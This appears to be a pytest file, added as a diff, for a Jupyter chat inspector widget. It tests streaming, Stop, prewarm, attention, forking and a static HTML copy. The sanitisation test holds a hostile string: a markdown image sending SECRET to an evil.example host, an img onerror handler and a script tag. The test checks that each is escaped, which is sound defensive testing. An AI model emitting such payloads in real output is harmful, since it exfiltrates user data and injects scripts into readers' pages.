@@ -1,0 +1,422 @@
+"""The inspector panel's kernel side: synced traits, batched event messages, resume, Stop, prewarm, attention,
+fork and the static fallback, on the tiny random model (the front end's own tests are in js/test)."""
+
+from __future__ import annotations
+
+import threading
+import time
+
+import numpy as np
+import pytest
+
+from jupyter_chatflow.events import Completed, TitleGenerated, TokenDelta, event_from_dict
+from jupyter_chatflow.frontends import widget as widget_module
+from jupyter_chatflow.frontends.relay import Relay
+from jupyter_chatflow.frontends.widget import ChatWidget
+from jupyter_chatflow.pipeline import chat as chat_module
+from jupyter_chatflow.pipeline.chat import Chat
+from jupyter_chatflow.pipeline.response import Response
+from jupyter_chatflow.store.database import Database
+
+QUICK = {"max_tokens": 24, "temperature": 0.0, "seed": 1, "memory": False}
+
+
+class Recorder:
+    """Stands in for the comm: keeps what the widget sends to the front end."""
+
+    def __init__(self) -> None:
+        self.messages: list[tuple[dict, list]] = []
+
+    def __call__(self, content: dict, buffers: list | None = None) -> None:
+        self.messages.append((content, buffers or []))
+
+    def of(self, kind: str) -> list[tuple[dict, list]]:
+        return [(c, b) for c, b in self.messages if c.get("type") == kind]
+
+
+@pytest.fixture
+def panel(tiny_model, tmp_path):
+    tiny_model.prompt_cache.clear()
+    chat = Chat(model=tiny_model, db=Database(tmp_path / "chat.db"), session="panel")
+    widget = ChatWidget(chat, settings=QUICK)
+    widget.send = Recorder()  # type: ignore[method-assign]
+    return widget
+
+
+def message(panel: ChatWidget, **content) -> None:
+    panel._on_message(panel, content, [])
+
+
+def test_a_turn_streams_as_batches_and_lands_in_the_turns_trait(panel):
+    response = panel.ask("Hello there")
+    panel.wait(60)
+    events = [e.to_dict() for e in [*response, *response.after_end()]]  # (after the end: the session's title)
+    streamed = [e for content, _ in panel.send.of("events") for e in content["events"]]
+    assert streamed == events  # every event once, in order
+    assert [t["turn_id"] for t in panel.turns] == [response.turn_id]
+    assert panel.turns[0]["events"] == events and panel.live is None and panel.status == "idle"
+    pieces = {k for content, _ in panel.send.of("events") for k in content["pieces"]}
+    prompt = next(e for e in events if e["type"] == "tokenized")["ids"]
+    generated = [e["token_id"] for e in events if e["type"] == "token"]
+    assert {str(i) for i in prompt + generated} <= pieces
+
+
+def test_events_are_batched_every_40_ms_not_sent_one_by_one():
+    def slow():
+        for event in Response.from_dicts(_events(60)):
+            time.sleep(0.004)  # 60 events over ~0.25 s
+            yield event
+
+    sent, ended = [], threading.Event()
+    relay = Relay(Response(slow()), _Tokenizer(), send=sent.append, on_start=lambda _: None,
+                  on_end=lambda _: ended.set())  # fmt: skip
+    relay.start()
+    assert ended.wait(10)
+    assert sum(len(m["events"]) for m in sent) == 60
+    assert 3 <= len(sent) <= 15  # ~40 ms apart, not 60 messages
+
+
+def test_the_relay_ends_the_turn_at_its_terminal_event_and_still_sends_late_ones():
+    rows = _events(6)
+    rows.append({"type": "title_generated", "title": "A Title", "latency_ms": 5.0, "sequence_number": 6,
+                 "turn_id": "turn_t", "timestamp": 6.0})  # fmt: skip
+    gate, log = threading.Event(), []
+
+    def late():  # the title comes a while after the answer
+        for event in map(event_from_dict, rows):
+            if event.type == "title_generated":
+                gate.wait(10)
+            yield event
+
+    relay = Relay(Response(late()), _Tokenizer(), send=lambda m: log.append(("events", m)), on_start=lambda _: None,
+                  on_end=lambda turn: log.append(("end", turn)))  # fmt: skip
+    relay.start()
+    deadline = time.monotonic() + 5
+    while not relay.done and time.monotonic() < deadline:
+        time.sleep(0.01)
+    assert relay.done and log[-1][0] == "end"  # the turn ended before its title was written
+    assert [e["type"] for e in log[-1][1]["events"]][-1] == "completed"
+    gate.set()
+    relay.join(5)
+    assert log[-1][0] == "events" and [e["type"] for e in log[-1][1]["events"]] == ["title_generated"]
+
+
+def test_a_view_that_reloads_mid_stream_gets_every_event_after_its_last_sequence_number():
+    gate = threading.Event()
+
+    def paused():
+        for event in Response.from_dicts(_events(30)):
+            if event.sequence_number == 20:
+                gate.wait(10)  # the turn is mid-stream here
+            yield event
+
+    sent, ended = [], threading.Event()
+    relay = Relay(Response(paused()), _Tokenizer(), send=sent.append, on_start=lambda _: None,
+                  on_end=lambda _: ended.set())  # fmt: skip
+    relay.start()
+    deadline = time.monotonic() + 5
+    while sum(len(m["events"]) for m in sent) < 20 and time.monotonic() < deadline:
+        time.sleep(0.01)
+    before = len(sent)
+    relay.resend(after=12)  # the reloaded view had events 0–12
+    assert [e["sequence_number"] for e in sent[before]["events"]] == list(range(13, 20))
+    gate.set()
+    assert ended.wait(10)
+    got = {e["sequence_number"] for m in sent for e in m["events"]}
+    assert got == set(range(30))
+
+
+def test_stop_from_the_panel_ends_the_live_turn_cancelled(panel):
+    panel.settings = {**panel.settings, "max_tokens": 400, "temperature": 1.0}
+    response = panel.ask("Count to a thousand")
+    deadline = time.monotonic() + 30
+    while not any(isinstance(e, TokenDelta) for e in response._log._events) and time.monotonic() < deadline:
+        time.sleep(0.01)
+    message(panel, type="stop")
+    panel.wait(60)
+    assert response.terminal().type == "cancelled"
+    assert panel.turns[-1]["events"][-1]["type"] == "cancelled" and panel.status == "idle"
+
+
+def test_a_second_send_while_generating_is_refused_with_a_message(panel):
+    panel.settings = {**panel.settings, "max_tokens": 200, "temperature": 1.0}
+    panel.ask("First")
+    message(panel, type="send", text="Second")
+    assert "still generating" in panel.error
+    panel.stop()
+    panel.wait(60)
+    assert len(panel.turns) == 1
+
+
+def test_a_draft_prewarms_its_prompt_and_the_turn_records_whether_it_was_used(panel):
+    panel.ask("Warm up").events()
+    panel.wait(60)
+    message(panel, type="draft", text="Tell me about lighthouses")
+    deadline = time.monotonic() + 30
+    while panel.prewarm is None and time.monotonic() < deadline:
+        time.sleep(0.01)
+    prewarm = panel.prewarm
+    assert prewarm is not None and prewarm["computed_tokens"] > 0
+    assert panel.send.of("prewarmed")[-1][0]["prewarm"] == prewarm
+    panel.ask("Tell me about lighthouses and ships")
+    panel.wait(60)
+    turn = panel.turns[-1]
+    assert turn["prewarm"] == prewarm
+    prefill = next(e for e in turn["events"] if e["type"] == "prefill")
+    assert prefill["reused_tokens"] > prewarm["cached_before"]  # what the timeline calls "prewarm used"
+
+
+def test_attention_is_computed_on_the_engine_thread_and_sent_as_float16(panel, tiny_model):
+    response = panel.ask("Hello")
+    panel.wait(60)
+    n = len(next(e for e in response if e.type == "tokenized").ids) + sum(e.type == "token" for e in response)
+    message(panel, type="attention", request_id=7, turn_id=response.turn_id, layer=1, head=-1, mode="tokens")
+    message(panel, type="attention", request_id=8, turn_id=response.turn_id, layer=1, head=0, mode="segments")
+    message(panel, type="attention", request_id=9, turn_id=response.turn_id, layer=9, head=0, mode="tokens")
+    panel.chat.submit(lambda: None).result(60)  # the queue is done
+    (tokens, [data]), (segments, [mass]) = panel.send.of("attention")
+    assert tokens["request_id"] == 7 and tokens["shape"] == [n, n] and tokens["dtype"] == "float16"
+    matrix = np.frombuffer(data, "<f2").reshape(n, n).astype(np.float32)
+    assert np.allclose(matrix.sum(1), 1.0, atol=1e-2) and np.allclose(np.triu(matrix, 1), 0)
+    rows = np.frombuffer(mass, "<f2").reshape(segments["shape"]).astype(np.float32)
+    assert segments["request_id"] == 8 and np.allclose(rows.sum(1), 1.0, atol=1e-2)
+    [(error, _)] = panel.send.of("attention_error")
+    assert error["request_id"] == 9 and "layer" in error["message"]
+
+
+def test_fork_from_the_panel_regenerates_the_latest_answer(panel):
+    response = panel.ask("Hello there")
+    panel.wait(60)
+    step = [e for e in response if isinstance(e, TokenDelta)][3]
+    message(panel, type="fork", turn_id=response.turn_id, index=3, token_id=step.alternatives[1].token_id)
+    panel.wait(60)
+    fork = panel.turns[-1]
+    assert fork["fork_of"] == response.turn_id and fork["events"][0]["fork_of"] == response.turn_id
+    tokens = [e for e in fork["events"] if e["type"] == "token"]
+    assert tokens[3]["token_id"] == step.alternatives[1].token_id
+
+
+def test_mistakes_in_requests_show_as_one_line_in_the_error_trait(panel):
+    message(panel, type="frobnicate")
+    assert "unknown request" in panel.error
+    message(panel, type="fork", turn_id="turn_nope", index=0, token_id=1)
+    assert "latest turn" in panel.error
+    panel.settings = {**panel.settings, "temperature": -1}
+    message(panel, type="send", text="hi")
+    assert "temperature" in panel.error
+
+
+def test_new_session_clears_the_panel(panel):
+    panel.ask("Hello").events()
+    panel.wait(60)
+    message(panel, type="new_session")
+    assert panel.turns == [] and panel.chat.history() == []
+
+
+def test_a_new_panel_shows_the_sessions_earlier_turns(panel, tiny_model):
+    panel.ask("Hello").events()
+    panel.wait(60)
+    again = ChatWidget(Chat(model=tiny_model, db=panel.chat.db, session="panel"))
+    assert [t["turn_id"] for t in again.turns] == [t["turn_id"] for t in panel.turns]
+    assert again.turns[0]["pieces"] and again.model_info["layers"] == 2
+
+
+def other_panel(panel: ChatWidget) -> ChatWidget:
+    other = ChatWidget(panel.chat, settings=QUICK)
+    other.send = Recorder()  # type: ignore[method-assign]
+    return other
+
+
+def test_a_panel_shows_the_turns_sent_from_another_panel_or_from_code(panel):
+    other = other_panel(panel)
+    first = other.ask("From the other panel")
+    other.wait(60)
+    second = panel.chat.send("From code", **QUICK)
+    second.events()
+    ids = [first.turn_id, second.turn_id]
+    assert [t["turn_id"] for t in panel.turns] == ids and [t["turn_id"] for t in other.turns] == ids
+    assert panel.turns[0]["pieces"] and panel.status == "idle" and panel.live is None
+
+
+def test_turns_from_elsewhere_that_run_before_the_panels_own_come_before_it(panel):
+    other = other_panel(panel)
+    before = other.ask("Queued first")  # on the engine before the panel's own turn, stored while that one is live
+    mine = panel.ask("Queued second")
+    panel.wait(60)
+    other.wait(60)
+    order = [before.turn_id, mine.turn_id]
+    assert [t["turn_id"] for t in panel.turns] == order and [t["turn_id"] for t in other.turns] == order
+    assert panel.turns[1]["events"] == [e.to_dict() for e in mine]  # the panel's own turn, as its relay sent it
+
+
+def test_a_new_session_started_elsewhere_restarts_the_log_at_its_first_turn(panel):
+    panel.ask("Old session").events()
+    panel.wait(60)
+    other = other_panel(panel)
+    message(other, type="new_session")
+    fresh = other.ask("New session")
+    other.wait(60)
+    assert [t["turn_id"] for t in panel.turns] == [fresh.turn_id] and panel.session == other.session
+
+
+def test_a_watcher_that_is_gone_is_not_called(panel):
+    import gc
+
+    class Watcher:
+        def __init__(self) -> None:
+            self.seen: list[str] = []
+
+        def stored(self, record) -> None:
+            self.seen.append(record.id)
+
+    kept, gone = Watcher(), Watcher()
+    panel.chat.watch(kept.stored)
+    panel.chat.watch(gone.stored)
+    del gone
+    gc.collect()
+    response = panel.chat.send("Hello", **QUICK)
+    response.events()
+    assert kept.seen == [response.turn_id] and len(panel.chat._watchers) == 2  # the panel's and kept's
+
+
+def test_the_static_copy_renders_answers_as_sanitized_markdown(panel):
+    hostile = "Use `a < b`.\n\n![x](https://evil.example/?q=SECRET) <img src=x onerror=alert(1)> <script>1</script>"
+    rows = _events(3)
+    rows[0]["user"], rows[-1]["text"] = "<b>hi</b>", hostile
+    panel.turns = [{"turn_id": "turn_t", "events": rows, "pieces": {}, "prewarm": None, "fork_of": ""}]
+    data, _ = panel.static_bundle()
+    shown = data["text/html"]
+    assert data["text/markdown"] == shown and shown.startswith(
+        f'<div class="cf-static-copy" data-model-id="{panel.model_id}"'
+    )
+    assert "<code>a &lt; b</code>" in shown and "&lt;b&gt;hi&lt;/b&gt;" in shown
+    for tag in ("<img", "<script", "<a ", 'src="'):
+        assert tag not in shown
+    assert "&lt;img src=x onerror=alert(1)&gt;" in shown  # shown as text
+    assert "[image: x — https://evil.example/?q=SECRET]" in shown
+
+
+def test_the_static_copy_draws_the_context_bar_the_tokens_with_their_probabilities_and_the_safety_badges(panel):
+    """What a page without widgets shows of a turn (nbconvert's HTML, nbviewer): the figures the panel draws."""
+    rows = _events(4)  # two tokens "x", logprob -1.0: p = e^-1 = 37 %
+    rows[1:1] = [
+        {"type": "safety_decision", "layer": "input", "action": "redact", "guard": "pii", "categories": ["email"],
+         "reason": "an e-mail address"},
+        {"type": "context_assembled", "window": 100, "reserved_output": 10, "budget": 90, "prompt_tokens": 30,
+         "segments": [{"kind": "system", "label": "system", "tokens": 20}, {"kind": "user", "label": "user",
+                                                                             "tokens": 10}]},
+    ]  # fmt: skip
+    for number, row in enumerate(rows):
+        row.update(sequence_number=number, turn_id="turn_t", timestamp=float(number))
+    panel.turns = [{"turn_id": "turn_t", "events": rows, "pieces": {}, "prewarm": None, "fork_of": ""}]
+    data, _ = panel.static_bundle()
+    shown = data["text/html"]
+    assert 'data-turns="1"' in shown
+    assert "context window 100 tokens:" in shown and "system 20" in shown and "user 10" in shown
+    assert "generated 2" in shown and "free 68" in shown  # 100 - 30 prompt - 2 generated
+    assert "width:20.00%" in shown and "width:10.00%" in shown  # the bar's segments, to scale
+    assert shown.count('title="id ') == 2 and shown.count(">37%</small>") == 2  # chips: p = e^-1
+    assert "2 tokens shown" in shown
+    assert "input: redact (email)" in shown and 'title="an e-mail address"' in shown
+    plain = data["text/plain"]
+    assert "> u" in plain and "xx" in plain and "object at 0x" not in plain
+
+
+def test_a_turn_end_updates_the_static_copy_never_the_panels_own_output(panel, monkeypatch):
+    """Updating the panel's output makes the front end build a new view: the tab, the scroll position and an open
+    popover were lost at every turn's end."""
+    shown: list[tuple[dict, object]] = []
+
+    class Handle:
+        def __init__(self, data: dict) -> None:
+            self.updates: list[dict] = []
+            shown.append((data, self))
+
+        def update(self, data: dict, **_: object) -> None:
+            self.updates.append(data)
+
+    monkeypatch.setattr(widget_module, "display", lambda data, **kw: Handle(data) if kw.get("display_id") else
+                        shown.append((data, None)))  # fmt: skip
+    panel._ipython_display_()
+    assert [("application/vnd.jupyter.widget-view+json" in d, h is not None) for d, h in shown] == [
+        (True, False), (False, True)]  # fmt: skip
+    panel.ask("Hello")
+    panel.wait(60)
+    copy = shown[1][1]
+    assert copy.updates and "cf-static-copy" in copy.updates[-1]["text/html"]
+    assert len(shown) == 2  # nothing displayed again
+
+
+def test_the_title_written_after_the_answer_reaches_the_panel(panel, monkeypatch):
+    """The title is generated after the turn's terminal event; the panel's turn ends at the answer, then the
+    title arrives as the turn's next event (live message, turns trait and title trait). (The tiny model's title
+    is stood in for: what is tested is its way to the panel.)"""
+    written = TitleGenerated(title="Sourdough Bread Baking", latency_ms=3.0)
+    monkeypatch.setattr(chat_module, "write_title", lambda *args: (time.sleep(0.2), written)[1])
+    response = panel.ask("Please tell me about sourdough bread baking")
+    panel.wait(120)
+    rows = panel.turns[0]["events"]
+    types = [r["type"] for r in rows]
+    assert types[-2:] == ["completed", "title_generated"], types
+    assert rows[-1]["sequence_number"] == rows[-2]["sequence_number"] + 1
+    assert panel.title == rows[-1]["title"] == response.title() == "Sourdough Bread Baking"
+    streamed = [e for content, _ in panel.send.of("events") for e in content["events"]]
+    assert [e["type"] for e in streamed][-2:] == ["completed", "title_generated"]
+    assert panel.status == "idle" and panel.live is None
+
+
+def test_settings_become_send_options(panel):
+    panel.settings = {**panel.settings, "tools": ["calculator"], "tool_choice": "required", "seed": None}
+    options = panel.options()
+    assert options["tools"] == ("calculator",) and options["tool_choice"] == "required" and "seed" not in options
+    assert options["max_tokens"] == 24
+
+
+# ---- helpers ------------------------------------------------------------------------------------------------
+
+
+class _Tokenizer:
+    def piece(self, token_id: int) -> str:
+        return f"<{token_id}>"
+
+    def token_bytes(self, token_id: int) -> bytes:
+        return bytes([token_id % 256])
+
+
+def _events(count: int) -> list[dict]:
+    rows = [{"type": "turn_started", "request_id": "r", "session_id": "s", "user": "u", "params": {},
+             "features": {}, "created": 0.0}]  # fmt: skip
+    rows += [{"type": "token", "index": i, "token_id": i, "text": "x", "logprob": -1.0, "entropy": 1.0}
+             for i in range(count - 2)]  # fmt: skip
+    rows.append({"type": "completed", "finish_reason": "stop", "text": "x" * (count - 2), "usage": {}, "timings": {}})
+    for number, row in enumerate(rows):
+        row.update(sequence_number=number, turn_id="turn_t", timestamp=float(number))
+    assert isinstance(event_from_dict(rows[-1]), Completed)
+    return rows
+
+
+def test_a_panel_made_without_a_chat_shows_the_model_loading(tiny_path, monkeypatch, capsys):
+    """`cf.ChatWidget(session=…)` loads the default model itself: its load shows as chatflow: lines (a bar in
+    Jupyter), not silently and not on stderr."""
+    monkeypatch.setenv("CHATFLOW_MODEL", str(tiny_path))
+    panel = ChatWidget(session="shown")
+    out, err = capsys.readouterr()
+    assert "chatflow: loading tiny.gguf" in out and "chatflow: loaded tiny.gguf in" in out, out
+    assert "Loading" not in err and panel.chat.model.path == tiny_path
+
+
+def test_a_turn_stored_before_the_chat_has_the_title_keeps_the_title_the_relay_brought(panel):
+    """The title arrives as a late event (the relay) a moment before the chat stores it: a turn that lands in
+    between must not blank it; a turn of a new session does."""
+    from jupyter_chatflow.store.sessions import TurnRecord
+
+    panel.title = "Capital of France"
+    same = TurnRecord(id="turn_t", session_id=panel.chat.session.id, user="u", answer="xx", status="completed",
+                      events=tuple({"alternatives": [], **row} for row in _events(4)))  # fmt: skip
+    with panel._lock:
+        panel._add([same])
+    assert panel.title == "Capital of France" and len(panel.turns) == 1
+    other = TurnRecord(id="turn_u", session_id="another", user="u", answer="xx", status="completed")
+    with panel._lock:
+        panel._add([other])
+    assert panel.title == "" and [t["turn_id"] for t in panel.turns] == ["turn_u"]
